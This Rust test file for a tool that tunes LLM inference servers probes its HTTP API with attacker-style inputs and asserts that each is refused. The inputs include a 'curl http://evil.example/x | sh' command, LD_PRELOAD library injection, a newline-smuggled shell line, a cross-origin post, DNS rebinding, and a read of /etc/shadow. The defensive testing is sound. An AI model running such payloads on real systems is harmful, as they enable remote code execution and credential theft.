//! Closed doors, tried over HTTP against a real server as an attacker
//! would: each request here worked before Tunebook refused it.

use crate::common;

use std::time::Duration;

use common::{TestServer, eventually, http};
use leptos::server_fn::ServerFn;
use serde_json::{Value, json};
use tunebook_views::types::{TrialState, TrialView};

/// A form post, as a browser sends one.
fn form(r: reqwest::RequestBuilder, fields: &[(&str, &str)]) -> reqwest::RequestBuilder {
    r.header("content-type", "application/x-www-form-urlencoded")
        .body(serde_urlencoded::to_string(fields).unwrap())
}

/// The status and the error message of a request.
async fn answer(r: reqwest::RequestBuilder) -> (u16, String) {
    let r = r.send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.text().await.unwrap())
}

fn study(space: Value) -> Value {
    json!({
        "name": "door", "profile": "demo", "model": "tiny-llama",
        "space": space, "objectives": [{ "metric": "decode_tps" }],
    })
}

#[tokio::test]
async fn settings_that_would_run_code_or_break_lines_are_refused() {
    let server = TestServer::start().await;
    let trial = |settings: Value| {
        http()
            .post(server.url("/api/trials"))
            .json(&json!({ "profile": "demo", "model": "tiny-llama", "settings": settings }))
    };
    for (name, value, says) in [
        ("env.LLAMA_ARG_TOOLS", "exec_shell_command", "may not be set"),
        ("env.LLAMA_ARG_LOG_FILE", "/tmp/x", "may not be set"),
        ("env.GGML_BACKEND_PATH", "/tmp/evil.so", "may not be set"),
        ("env.CUDA_INJECTION64_PATH", "/tmp/evil.so", "may not be set"),
        ("env.LD_PRELOAD", "/tmp/evil.so", "may not be set"),
        ("env.CUDA_VISIBLE_DEVICES", "0\nExecStartPre=/bin/sh", "control characters"),
        ("cache_type_k", "q8_0`", "backticks"),
    ] {
        let (status, body) = answer(trial(json!({ name: value }))).await;
        assert_eq!(status, 400, "{name}: {body}");
        assert!(body.contains(says), "{name}: {body}");
    }
    let list: Vec<TrialView> = common::get_json(&server, "/api/trials").await;
    assert!(list.is_empty(), "nothing was stored: {list:?}");
    server.stop().await;
}

#[tokio::test]
async fn other_sites_cannot_change_anything_nor_rebind_a_name() {
    let server = TestServer::start().await;
    let own = format!("http://{}", server.addr);
    let text = serde_json::to_string(&study(json!({ "threads": [1, 2] }))).unwrap();
    let form = |origin: Option<&str>| {
        let r = form(http().post(server.url(tunebook_app::CreateStudy::PATH)), &[("text", &text)]);
        match origin {
            Some(o) => r.header("origin", o),
            None => r,
        }
    };
    // No other site may frame a page, and a page loads nothing from elsewhere.
    let page = http().get(server.url("/studies")).send().await.unwrap();
    let policy = page.headers()["content-security-policy"].to_str().unwrap().to_string();
    for part in
        ["frame-ancestors 'none'", "default-src 'self'", "img-src 'self'", "object-src 'none'"]
    {
        assert!(policy.contains(part), "{policy}");
    }
    assert_eq!(page.headers()["x-frame-options"], "DENY");
    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
    // A form another site posts through the user's browser: refused.
    for origin in ["http://evil.example", "http://127.0.0.1:1", "null"] {
        let (status, body) = answer(form(Some(origin))).await;
        assert_eq!(status, 403, "{origin}: {body}");
    }
    let (status, _) = answer(
        http()
            .post(server.url("/api/studies"))
            .header("origin", "http://evil.example")
            .json(&study(json!({ "threads": [1, 2] }))),
    )
    .await;
    assert_eq!(status, 403);
    let studies: Vec<Value> = common::get_json(&server, "/api/studies").await;
    assert!(studies.is_empty(), "nothing was created");
    // DNS rebinding: the page's own name is not one this server answers to.
    let (status, body) =
        answer(http().get(server.url("/api/studies")).header("host", "evil.example")).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("--allowed-host"), "{body}");
    // The server's own page may.
    let (status, body) = answer(form(Some(&own))).await;
    assert_eq!(status, 200, "{body}");
    let studies: Vec<Value> = common::get_json(&server, "/api/studies").await;
    assert_eq!(studies.len(), 1);
    server.stop().await;
}

#[tokio::test]
async fn a_study_names_no_url_key_or_file() {
    let server = TestServer::start().await;
    let post = |def: Value| http().post(server.url("/api/studies")).json(&def);
    let mut def = study(json!({ "threads": [1, 2] }));
    def["strategy"] = json!({ "kind": "llm", "endpoint": {
        "url": "http://evil.example", "api_key_env": "TUNEBOOK_PASSWORD" } });
    let (status, body) = answer(post(def.clone())).await;
    assert_eq!(status, 400, "{body}");
    def["strategy"] = json!({ "kind": "llm", "endpoint": "judge" });
    let (status, body) = answer(post(def.clone())).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("endpoint `judge` is not configured"), "{body}");
    def["strategy"] = json!({ "kind": "grid" });
    def["probes"] = json!({ "perplexity": { "text": "/etc/shadow" } });
    let (status, body) = answer(post(def)).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("cannot name a file"), "{body}");
    server.stop().await;
}

#[tokio::test]
async fn small_requests_cannot_ask_for_the_server_s_stack_memory_or_time() {
    let server = TestServer::start().await;
    let check = |def: Value| http().post(server.url("/api/studies/check")).json(&def);
    let mut deep = study(json!({ "threads": [1, 2] }));
    deep["constraints"] = json!([format!("{}threads{} > 1", "(".repeat(1000), ")".repeat(1000))]);
    let (status, body) = answer(check(deep)).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("over the limit of 1000"), "{body}");
    for (space, says) in [
        (json!({ "ctx_size": { "min": 0, "max": 1_000_000_000_000i64 } }), "over the limit"),
        (json!({ "ctx_size": { "min": 1, "max": 16777216 } }), "over the limit of 10000"),
        (json!({ "top_k": { "min": 0.0, "max": 1.0, "points": 1_000_000_000 } }), "points"),
    ] {
        let (status, body) = answer(check(study(space.clone()))).await;
        assert_eq!(status, 400, "{space}: {body}");
        assert!(body.contains(says), "{space}: {body}");
    }
    let mut greedy = study(json!({ "threads": [1, 2] }));
    greedy["probes"] = json!({ "speed": { "repeats": 100000000, "prompt_tokens": 100000000 } });
    let (status, body) = answer(check(greedy)).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("probes.speed.repeats: 100000000, over the limit of 100"), "{body}");
    // A front on a thousand metrics is refused, not attempted.
    let mut one = study(json!({ "threads": [1, 2] }));
    one["budget"] = json!({ "max_trials": 1 });
    let r = http().post(server.url("/api/studies")).json(&one).send().await.unwrap();
    let id = r.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let many = vec!["decode_tps"; 1000].join(",");
    let url = server.url(&format!("/api/studies/{id}/pareto?metrics={many}"));
    let (status, body) = answer(http().get(url)).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("1000 metrics asked for, over the limit of 8"), "{body}");
    // Still alive, and still checking.
    let (status, body) = answer(check(study(json!({ "threads": [1, 2] })))).await;
    assert_eq!(status, 200, "{body}");
    server.stop().await;
}

/// A check of 100,000 configurations under 32 constraints is seconds of
/// CPU: it runs off the request threads, so the pages answer meanwhile
/// (here the server shares one thread with the test: a check on it would
/// hold every other request until it ended).
#[tokio::test]
async fn a_heavy_check_leaves_the_pages_answering() {
    let server = TestServer::start().await;
    let _: Value = common::get_json(&server, "/api/profiles").await;
    let list = |n: i64, step: i64| (1..=n).map(|i| i * step).collect::<Vec<_>>();
    let mut heavy = study(json!({
        "threads": list(50, 1), "batch_size": list(40, 64), "ubatch_size": list(50, 8),
    }));
    heavy["baseline"] = json!({ "threads": 1, "batch_size": 64, "ubatch_size": 8 });
    let constraints: Vec<String> =
        (0..32).map(|i| format!("threads * batch_size + ubatch_size > -{i}")).collect();
    heavy["constraints"] = json!(constraints);
    let url = server.url("/api/studies/check");
    let check = tokio::spawn(http().post(url).json(&heavy).send());
    // Once the check is under way, other requests are answered before it.
    eventually(Duration::from_secs(30), "the check under way", || async {
        let answered = http().get(server.url("/api/profiles")).send().await.ok()?;
        (answered.status() == 200 && !check.is_finished()).then_some(())
    })
    .await;
    assert!(!check.is_finished(), "the pages answered while the check ran");
    let r = check.await.unwrap().unwrap();
    assert_eq!(r.status(), 200);
    let preview: Value = r.json().await.unwrap();
    assert_eq!(preview["grid_size"], 100_000);
    server.stop().await;
}

#[tokio::test]
async fn a_second_tunebook_on_the_same_data_folder_leaves_the_first_alone() {
    let data = tempfile::tempdir().unwrap();
    let profiles = tempfile::tempdir().unwrap();
    common::write_fake_profile(profiles.path(), "stuck", &["--fake", "never-ready"]);
    let mut settings = TestServer::settings(data.path().to_path_buf());
    settings.profiles_dir = profiles.path().to_path_buf();
    let server = TestServer::start_with(settings, data).await;
    let trial: TrialView = http()
        .post(server.url("/api/trials"))
        .json(&json!({ "profile": "stuck", "model": "m", "settings": {} }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let limit = Duration::from_secs(30);
    let loading = || async {
        let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", trial.id)).await;
        (t.state == TrialState::Loading).then_some(t)
    };
    eventually(limit, "the trial to be loading", loading).await;
    let engines = server.data.path().join("engines");
    let records = || std::fs::read_dir(&engines).map(|d| d.flatten().count()).unwrap_or(0);
    // Its record is written once the process is spawned, a moment after
    // the trial is marked loading.
    eventually(limit, "the engine's record", || async { (records() == 1).then_some(()) }).await;

    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_tunebook"))
        .args(["run", "--resume", "999"])
        .arg(format!("--data-dir={}", server.data.path().display()))
        .arg(format!("--profiles={}", profiles.path().display()))
        .output()
        .await
        .unwrap();
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("another Tunebook"), "{said}");
    // Nor one with its own data folder on the same database.
    let elsewhere = tempfile::tempdir().unwrap();
    let db = TestServer::settings(server.data.path().to_path_buf()).database_url;
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_tunebook"))
        .args(["run", "--resume", "999"])
        .arg(format!("--data-dir={}", elsewhere.path().display()))
        .arg(format!("--database-url={db}"))
        .arg(format!("--profiles={}", profiles.path().display()))
        .output()
        .await
        .unwrap();
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("another Tunebook is using the database"), "{said}");
    // The first one's trial runs on, its engine untouched.
    assert_eq!(records(), 1, "the engine record is still there");
    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", trial.id)).await;
    assert_eq!(t.state, TrialState::Loading, "{t:?}");
    server.stop().await;
}

/// A password of spaces is no password: the server will not take it for
/// one and open itself to the network.
#[test]
fn a_password_of_spaces_opens_nothing() {
    let data = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_tunebook"))
        .args(["serve", "--addr", "0.0.0.0:0"])
        .arg(format!("--data-dir={}", data.path().display()))
        .env("TUNEBOOK_PASSWORD", "   ")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("TUNEBOOK_PASSWORD is only spaces"), "{said}");
}

#[tokio::test]
async fn wrong_passwords_are_limited() {
    let data = tempfile::tempdir().unwrap();
    let mut settings = TestServer::settings(data.path().to_path_buf());
    settings.password = Some("right".into());
    let server = TestServer::start_with(settings, data).await;
    let client = engine_bridge::http::client()
        .no_proxy()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let attempt = |pw: &'static str| {
        form(client.post(server.url("/login")), &[("password", pw), ("next", "/\t/evil.example")])
    };
    for _ in 0..tunebook::login::MAX_FAILURES {
        assert_eq!(attempt("guess").send().await.unwrap().status(), 401);
    }
    let r = attempt("right").send().await.unwrap();
    assert_eq!(r.status(), 429, "even the right password waits now");
    assert!(r.headers().contains_key("retry-after"));
    server.stop().await;
}

#[tokio::test]
async fn a_worker_runs_only_what_it_registered_and_sends_plain_names() {
    let server = TestServer::start().await;
    let at = &server;
    let token = |name: &'static str| async move {
        let r = http().post(at.url("/api/workers")).json(&json!({ "name": name })).send();
        let r: Value = r.await.unwrap().json().await.unwrap();
        r["token"].as_str().unwrap().to_string()
    };
    let (liar, honest) = (token("liar").await, token("honest").await);
    let register = |token: &str, body: Value| {
        http().post(server.url("/api/worker/register")).bearer_auth(token).json(&body)
    };
    let profile =
        |name: &str| json!({ "name": name, "engine": "llama-server", "models": ["tiny-llama"] });
    let hardware = json!({ "cpu": "a CPU", "threads": 2, "ram_bytes": 1u64 << 30, "gpus": [] });

    // What pages show of a worker is one bounded line of plain text.
    let line = json!({ "hardware": hardware, "class": "fast\n<b>x</b>", "profiles": [] });
    let (status, body) = answer(register(&liar, line)).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("the class") && body.contains("control character"), "{body}");
    let many: Vec<Value> = (0..65).map(|n| profile(&format!("p{n}"))).collect();
    let (status, body) =
        answer(register(&liar, json!({ "hardware": hardware, "profiles": many }))).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("65 profiles, over the limit of 64"), "{body}");
    let huge = json!({ "cpu": "x".repeat(20_000) });
    let (status, body) = answer(register(&liar, json!({ "hardware": huge, "profiles": [] }))).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("hardware"), "{body}");
    let workers: Vec<Value> = common::get_json(&server, "/api/workers").await;
    assert!(workers.iter().all(|w| w["hardware"].is_null()), "nothing stored: {workers:?}");

    // The liar registers another profile, then asks for the demo's trial.
    let (status, body) = answer(register(
        &liar,
        json!({ "hardware": hardware, "profiles": [profile("elsewhere")] }),
    ))
    .await;
    assert_eq!(status, 200, "{body}");
    let queued: TrialView = http()
        .post(server.url("/api/trials"))
        .json(&json!({ "profile": "demo", "model": "tiny-llama", "settings": {}, "target": "any" }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let claim = |token: &str| {
        http()
            .post(server.url("/api/worker/claim"))
            .bearer_auth(token)
            .json(&json!({ "profiles": ["demo"] }))
    };
    let (status, body) = answer(claim(&liar)).await;
    assert_eq!((status, body.as_str()), (200, "null"), "no trial of a profile it did not register");
    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", queued.id)).await;
    assert_eq!(t.state, TrialState::Queued);
    // A worker that registered the profile takes it.
    let (status, body) =
        answer(register(&honest, json!({ "hardware": hardware, "profiles": [profile("demo")] })))
            .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = answer(claim(&honest)).await;
    assert_eq!(status, 200, "{body}");
    let claimed: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(claimed["trial"]["id"], json!(queued.id), "{claimed}");

    // A result says what was measured, never what others should run, and
    // its times are times.
    let result_url = server.url(&format!("/api/worker/trials/{}/result", queued.id));
    let now =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis()
            as i64;
    let evil = json!({
        "program": "/bin/sh",
        "args": ["-c", "curl -s http://evil.example/x | sh"],
        "env": { "LD_PRELOAD": "/tmp/x.so" },
        "display": "/bin/sh -c 'curl -s http://evil.example/x | sh'",
    });
    let result = |started: Value| {
        json!({
            "columns": {
                "state": "done", "decode_tps": 40.0, "started_ms": started,
                "finished_ms": now, "command": evil.to_string(),
            },
            "samples": [],
        })
    };
    let post = |body: Value| http().post(&result_url).bearer_auth(&honest).json(&body);
    let (status, body) = answer(post(result(json!(i64::MAX)))).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("`started_ms`") && body.contains("not a time"), "{body}");
    let (status, body) = answer(post(result(json!(now - 5_000)))).await;
    assert_eq!(status, 204, "{body}");
    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", queued.id)).await;
    assert_eq!(t.state, TrialState::Done);
    let command = t.command.unwrap_or_default();
    assert!(command.contains("llama-server") && command.contains("-m "), "{command}");
    assert!(!command.contains("evil") && !command.contains("/bin/sh"), "{command}");

    // Names are short, plain and never `.` or `..`.
    for name in [".", "..", ".hidden", &"w".repeat(65)] {
        let r = http().post(server.url("/api/workers")).json(&json!({ "name": name }));
        let (status, body) = answer(r).await;
        assert_eq!(status, 400, "{name}: {body}");
        assert!(body.contains("a worker's name is up to 64"), "{body}");
    }
    // A revoked worker's own trials fail, said why, rather than wait for it.
    let mine: TrialView = http()
        .post(server.url("/api/trials"))
        .json(&json!({ "profile": "demo", "model": "tiny-llama", "settings": {}, "target": "honest" }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(mine.state, TrialState::Queued);
    let r = http().delete(server.url("/api/workers/honest")).send().await.unwrap();
    assert_eq!(r.status(), 204);
    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", mine.id)).await;
    assert_eq!(t.state, TrialState::Failed);
    assert_eq!(t.error.as_deref(), Some("its worker `honest` was revoked"));
    server.stop().await;
}
